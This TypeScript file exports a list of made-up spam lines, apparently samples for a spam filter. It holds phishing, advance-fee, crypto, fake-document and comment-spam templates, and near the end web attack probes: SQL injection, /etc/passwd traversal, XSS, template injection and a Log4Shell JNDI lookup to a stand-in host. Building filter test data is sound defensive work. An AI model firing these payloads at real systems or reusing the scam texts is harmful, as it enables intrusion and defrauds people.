/** Tricks, wagers, pills and false papers, made up. A line more teaches the filter. */
export const spamSwindlers = `
Dear customer, your parcel is held at the depot. Pay the small customs fee of $1.99 here: https://post-track.example/pay
Your Netflix payment failed. Update your card within 24 hours to keep watching.
Unusual sign-in to your PayPal. If it wasn't you, log in and secure the account: https://pp-secure.example
Your Apple ID was locked for security reasons. Verify your identity now.
ATO notice: you are eligible for a refund of 873.20 AUD. Submit the form to receive it.
myGov: a new message waits in your inbox, confirm your details to avoid suspension http://mygov-au.example
Dear user, your email storage is full, click to upgrade for free otherwise incoming mails will be deleted.
Your password expires today. Keep the same password by signing in here.
You have 3 undelivered emails. Release messages: https://mail-release.example
DocuSign: your document is ready for signature, review it here https://docs-sign.example/a8
A fax of 2 pages has been received for you. View document.
Attached is the revised invoice with our new bank details. Please update your records and pay today.
Kindly process the outstanding payment in the attached statement, our account details have changed.
Hello accounts, can you tell me the status of payment of our invoice 44871? Find a copy in the link.
This is a reminder that your subscription of antivirus is renewed for $399.99. To cancel call 1-800-000-000.
Your computer is infected with 5 viruses. Call Microsoft support now.
Your ad account was disabled for policy reasons. Request a review within 12 hours: https://meta-help.example
Copyright complaint: your page uses our client's trademark. All pages will be deleted unless you appeal through this link.
Your site uses my drawings without permission. Download the proof and remove them in 3 days or see you in court.
I am a hacker who has access to all your devices. Send $1,400 in Bitcoin and I delete the video.
We will attack your website with DDoS on Monday unless you pay 0.5 BTC.
Your customer data is for sale on the dark web. Pay us and we remove it.
I found a critical bug (clickjacking) on your domain. Can you tell me if you give reward for responsible reports?
My late husband left $9.8 million in a security company. I need a trusted person to receive it for charity.
I am Sgt Monica Brown of the US Army in Syria. I have two trunk boxes of cash to move to your country.
From the desk of Barrister Paul Kofi: my client of the same family name died and left a fortune. Contact me.
I'm the personal banker of a late oil contractor. I need your assistance to transfer 18.5M. It is risk free.
You have been chosen to receive a grant from the Warren Buffett foundation. Reply with your full name and number.
Winner! Your number was drawn in the Coca-Cola mobile lottery. Contact the claims agent for your 1,000,000 dollars.
Compensation for scam victims: your name is on the list for 2.5m, pay only the courier of your ATM card.
I want to donate part of my wealth to you, I am sick and have no children. Write to my lawyer.
Hello beneficiary, your inheritance fund is on hold at the IMF. Act now to release it.
Need money fast? Personal loans up to $100k without credit check, cash today.
We give out loans at 2 % to serious people, companies and churches. Apply with name, country, amount.
Business finance up to $500,000, unsecured, decision in 4 hours. No impact on your credit score.
Are unpaid invoices strangling your cash flow? We advance 90 % the same day.
Project funding from $1m to $500m for real estate, energy and start-ups. Brokers protected.
We provide bank guarantees, SBLC and letters of credit. Leased and fresh cut.
Debt piling up? Legally wipe 70 % of it. Talk to our specialists.
Refinance your mortgage at 4.9 %. Our lenders compete for you.
Buy gold now before the dollar crashes. Free investor kit.
Our trading robot made 41 % last month. Start with $200 and withdraw daily.
Copy trades of our VIP group, 9 of 10 in profit, first week free, join Telegram.
I invested $1,000 with Mr Brian and got $11,400 after five days. Message him on WhatsApp.
Guaranteed returns of 12 % weekly on bitcoin mining. Register at https://minefarm.example
Lost access to your wallet or scammed by a broker? Our recovery team gets your coins back.
New token presale up 900 %, listing on Binance next week, whitelist open
Claim 0.8 ETH that is in your account. Last warning before deletion: https://graph-claim.example
You have a pending transfer of 1.2 BTC. Log in to confirm withdrawal.
Invest in pre-IPO shares of a space company. Minimum 5,000. Ask for the prospectus.
Forex account managers, you deposit and we trade, split 50/50.
Earn passive income from Amazon automation. We do everything, you bank the profit.
Luxury apartments in Bali from 90k USD, 15 % return, guaranteed buyback.
Beachfront land in the Philippines, title ready, instalments possible. Enquire for map.
Golden visa property in Athens, agents get 5 %. Register to our partner portal.
Citizenship by investment in the Caribbean, referral fee paid to consultants within 30 days.
Play pokies and win real money, 100 no-deposit spins await
The best odds for AFL and horse racing, double your first bet
Crypto casino with instant payouts and no KYC https://coinbet.example
Jackpot of 2,000,000! Register within 10 minutes to take part.
Poker tournament with free entry and $10k prize pool, download the app
Satta matka fast result and guessing, join channel
Get your cricket ID now, deposit 500 get 1000, WhatsApp us
Cheap Xanax, Tramadol and Adderall without prescription, overnight delivery
Canadian pharmacy, generic pills for men, save 80 %
Semaglutide shots delivered home, lose 15 kg by Christmas, no doctor visit
CBD gummies remove pain and anxiety, free bottle, pay shipping only
Keto tablets: she lost 22 kilos in one month. Read her story.
Hair growth serum that barbers don't want you to know about
Bigger, harder, longer. See results in two weeks.
Premium cannabis seeds and vapes, stealth shipping to Australia
Nude video chat with teens 18+, free tokens
Lonely housewives near Adelaide want to meet tonight
Escorts in Canberra, real photos, incall and outcall, call now
I'm Natasha from Kyiv, 25, no kids. I look for a kind man abroad. Shall I send photos?
hello handsome, are you alone? my pics here https://pic-hot.example
Find Asian brides, free profile, thousands of women online
Sugar mummy needs a young man, pays $5,000 a month. Contact agent.
Adult toys with discreet packaging, 40 % off today
Home typing job, pay $45 an hour, no experience, start today
Like YouTube videos and earn $200 daily, contact our manager on Telegram @taskmanager
Hiring 50 remote assistants, no interview, weekly salary in crypto
Become a secret shopper in Australia. $300 for each visit. Send your name, address and age.
We need a person to receive parcels at home and send them on, 3,000 a month.
Our company seeks payment agents in your country, keep 10 % of each transfer.
Make $4,000 a week from your sofa with this secret system.
Cruise ship jobs, 3,500 USD a month, no experience, visa fee is only 350. Send passport copy.
Urgent requirement of fruit pickers in Australia, free visa, free flight, food and room. WhatsApp your passport.
Farm and warehouse jobs in New Zealand with visa, no English, pay in instalments after arrival, 25 seats left.
Direct work permit for Australia subclass 482, total 9 lakh, 2 lakh advance, guaranteed in 45 days. Agents contact.
We have employer sponsorship available for chefs and drivers. $35,000 all included. Only serious.
We sell nominations and sponsor letters from real companies in Australia. Payment after grant.
Visitor visa guaranteed with our back-door process, 100 % success. Money back.
We can approve refused files, our contact in the visa section does it. Price 6,000 USD.
We issue IELTS band 8 without sitting, registered with British Council. Check online before you pay.
Get PTE 79 or NAATI certificate at home, our expert writes the test for you remotely.
OET, TOEFL and Goethe certificates original for sale, delivery in one week
Real and fake passports, ID cards, residence permits, SSN. Undetectable, holograms. Wickr only.
University degrees with transcript and verification letter, any year, any country, from $700.
Medical, police check and bank statements made for visa file in one day.
Show money service for student visa: we put 50 lakh in your account, 2 % commission. Agents welcome.
Bank balance certificate and education loan letters available in 24 hours for agents.
Marriage partners for PR, genuine couples, cost 40k, references available
Buy COE and enrolment without attending classes. Call.
Assignments, dissertations and online exams done by experts. 0 % plagiarism, 0 % AI.
Pay someone to take your online class. A or B guaranteed.
Counterfeit notes AUD, USD and EUR grade A, pass the UV test. Contact for sample.
Cloned cards with balance of 4,000 dollars, shipped in 48 hours
Hacking services: WhatsApp, Facebook, grades, spouse's phone. 100 % discreet.
Aged Facebook accounts, verified Binance and Wise accounts, in stock
Rolex, Cartier and Louis Vuitton copies, best quality, ship from HK
Nike and Adidas outlet, up to 85 % off, https://shoesale.example
iPhone 17 Pro for $299, clearance, limited stock
Free $500 Woolworths gift card! Complete a short survey to claim.
You are today's lucky visitor. Spin the wheel and win an iPad.
IPTV with all sports and movies, trial for 24 hours free
Download cracked software, games and films https://crackzone.example
Cheap hotels and flights, last minute deals, call our toll free line
Powerful spell to return your lover and win court cases, Dr Mukasa
Native healer: bad luck removed, business attraction, pay after results.
Join our brotherhood to get fame, money and protection. No blood sacrifice.
God told me to write you. Send this to 12 people and receive a blessing of money.
I cured my herpes with the herbs of Dr Ahmed. You can reach him by mail.
Ivermectin and hydroxychloroquine shipped without prescription
The vaccine is poison, read the truth here https://truth-now.example
Vote for our petition and donate, click here
Donate for the orphans of our village, Western Union only, God bless you
Kindly assist me with school fees, I'm an orphan from Gambia. Send through MoneyGram.
hello dear how are you i want to be your friend, reply me with your picture
my name is Joy, i saw your contact today and became interested in you, i have something special to tell you
Please contact me, I have something very important to discuss for our mutual benefit
Hello, I sent you a message earlier about the fund. Did you receive it?
I want to invest in your country under your management. Capital of $20m ready. Can you handle it?
Wow, superb blog layout! How long have you been blogging? The look of your website is excellent.
I visited several web sites but the audio feature on this one is really wonderful.
Thanks for any other informative site. Where else may I get that type of info written in such a perfect approach?
Hi, I think your blog might be having browser compatibility issues. Anyhow, superb post!
This is really attention-grabbing, you're an excessively skilled blogger. I joined your feed.
Hey there, I found your web page via Google while searching for a comparable matter, it seems great. I have bookmarked it in my favourites.
I couldn't resist commenting. Very well written!
Very good write-up. I definitely love this site. Stick with it!
Pretty section of content. I just stumbled upon your weblog and assert that I get actually enjoyed account your posts.
my web-site :: casino bonus
Feel free to surf to my homepage: keto diet
Here is my page ... best forex broker review
[url=https://slots-win.example]online slots[/url] [url=https://pills.example]buy cialis[/url]
<a href=https://loans.example>payday loans</a> <a href=https://bet.example>bet</a>
<h1>Cheap hosting</h1><a href="https://host.example">click</a>
[link=https://porn.example]free porn[/link]
buy levitra https://med.example cialis online https://med2.example
https://t.me/fastmoney_bot
www.best-replica-shop.example
see this http://1drv.example/abc
look https://tinyurl.example/98sd
hTtps://x.example/?id=88213 hi
{"test":"payload"}
' OR 1=1 --
../../../../etc/passwd
<script>alert(1)</script>
admin' AND SLEEP(5)#
\${jndi:ldap://x.example/a}
{{7*7}}
%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E
lkjhgfdsa poiuytrewq
qweqwe qweqwe
fdsfsdf sdfsdf sdfsd
xcvbnm
hjkhjk hjkhj
zzzzzz
aaaaaaaaaa
sdfghj dfghjk
VnRtKqWzLp
oXpLdRzQmTbV HsWqKjNfYc
eRtYuIoPaS
kfjslkfjs lkfjslkf
blah blah blah
test message
this is a test of the form
Testing 123
automated form submission check
checking if your form works, disregard
form test by qa bot
ignore this message
`
  .trim()
  .split('\n');
